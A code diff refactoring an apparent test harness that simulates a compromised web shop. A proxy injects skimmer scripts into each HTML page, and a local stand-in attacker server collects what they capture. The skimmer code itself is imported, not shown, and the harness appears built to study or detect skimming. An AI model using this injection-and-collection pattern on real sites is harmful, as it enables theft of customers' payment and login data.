@@ -1,9 +1,10 @@
 // A shop that was broken into: everything it shows carries skimmers, and what they find arrives at a server of the attacker's.
-import { createServer, type IncomingMessage, type RequestListener, type Server, type ServerResponse } from 'node:http';
+import type { IncomingMessage, ServerResponse } from 'node:http';
 import { readFile } from 'node:fs/promises';
 import { createRequire } from 'node:module';
-import type { AddressInfo } from 'node:net';
 import { dirname, join } from 'node:path';
+import { text } from 'node:stream/consumers';
+import { listen, type LocalServer } from '../../listen.ts';
 import { LISTENING } from './listening.ts';
 import { PATCHING, worker } from './patching.ts';
 import type { Skimmer } from './skimmer.ts';
@@ -38,48 +39,36 @@ export interface SkimmedShop {
   close(): Promise<void>;
 }
 
-async function listen(answer: RequestListener): Promise<{ readonly server: Server; readonly url: string }> {
-  const server = createServer(answer);
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return { server, url: `http://localhost:${(server.address() as AddressInfo).port}` };
-}
-
-async function bodyOf(request: IncomingMessage): Promise<Buffer> {
-  const chunks: Buffer[] = [];
-  for await (const chunk of request) chunks.push(chunk as Buffer);
-  return Buffer.concat(chunks);
-}
+const urlOf = ({ port }: LocalServer): string => `http://localhost:${port}`;
 
 const send = (response: ServerResponse, type: string, body: string | Buffer): void =>
   void response.writeHead(200, { 'content-type': `${type}; charset=utf-8` }).end(body);
 
 export async function openSkimmedShop(): Promise<SkimmedShop> {
   const loot = SKIMMERS.map(() => '');
-  const attacker = await listen((request, response) => {
-    void bodyOf(request).then((body) => {
-      const row = Number(request.url?.slice(1));
-      if (row in loot) loot[row] += `${body.toString()}\n`;
-      response.writeHead(204).end();
-    });
+  const attacker = await listen(async (request, response) => {
+    const body = await text(request);
+    const row = Number(request.url?.slice(1));
+    if (row in loot) loot[row] += `${body}\n`;
+    response.writeHead(204).end();
   });
 
   const skimmersOf = (kind: Kind | null): string =>
     [
       '<script src="/recorder.js"></script><script>{',
-      `const thiefOf = (${thievesOf.toString()})(${JSON.stringify(attacker.url)});`,
+      `const thiefOf = (${thievesOf.toString()})(${JSON.stringify(urlOf(attacker))});`,
       ...(kind ? KINDS[kind] : SKIMMERS).map((row) => `(${row.script.toString()})(thiefOf(${SKIMMERS.indexOf(row)}));`),
       '}</script>',
     ].join('\n');
 
   let behind: Behind | undefined;
   const received: string[] = [];
-  const front = await listen((request, response) => {
-    void answer(request, response).catch(() => response.destroy());
-  });
+  const front = await listen(answer);
+  const url = urlOf(front);
 
   async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
-    const { pathname, searchParams } = new URL(request.url ?? '/', front.url);
-    const body = (await bodyOf(request)).toString();
+    const { pathname, searchParams } = new URL(request.url ?? '/', url);
+    const body = await text(request);
     received.push(`${request.method} ${request.url} ${request.rawHeaders.join(' ')} ${body}`);
     if (!behind) return void response.writeHead(503).end();
     if (pathname === '/recorder.js') return send(response, 'text/javascript', await readFile(RECORDER));
@@ -95,23 +84,21 @@ export async function openSkimmedShop(): Promise<SkimmedShop> {
       headers: Object.entries(request.headers).filter(([name]) => !NOT_PASSED_ON.test(name)) as [string, string][],
       redirect: 'manual',
       ...(body !== '' && { body }),
-    });
+    }).catch(() => undefined);
+    if (!answered) return void response.writeHead(502).end();
     const headers = Object.fromEntries([...answered.headers].filter(([name]) => !NOT_PASSED_ON.test(name)));
     response.writeHead(answered.status, headers);
     response.end((await answered.text()).replace(/^<!doctype html>/i, (start) => start + skimmers));
   }
 
   return {
-    url: front.url,
+    url,
     standBefore: (given) => (behind = given),
     loot,
     emptyLoot: () => void loot.fill(''),
     received: () => received.join('\n'),
     async close() {
-      for (const { server } of [front, attacker]) {
-        server.closeAllConnections();
-        await new Promise((resolve) => server.close(resolve));
-      }
+      await Promise.all([front.close(), attacker.close()]);
     },
   };
 }
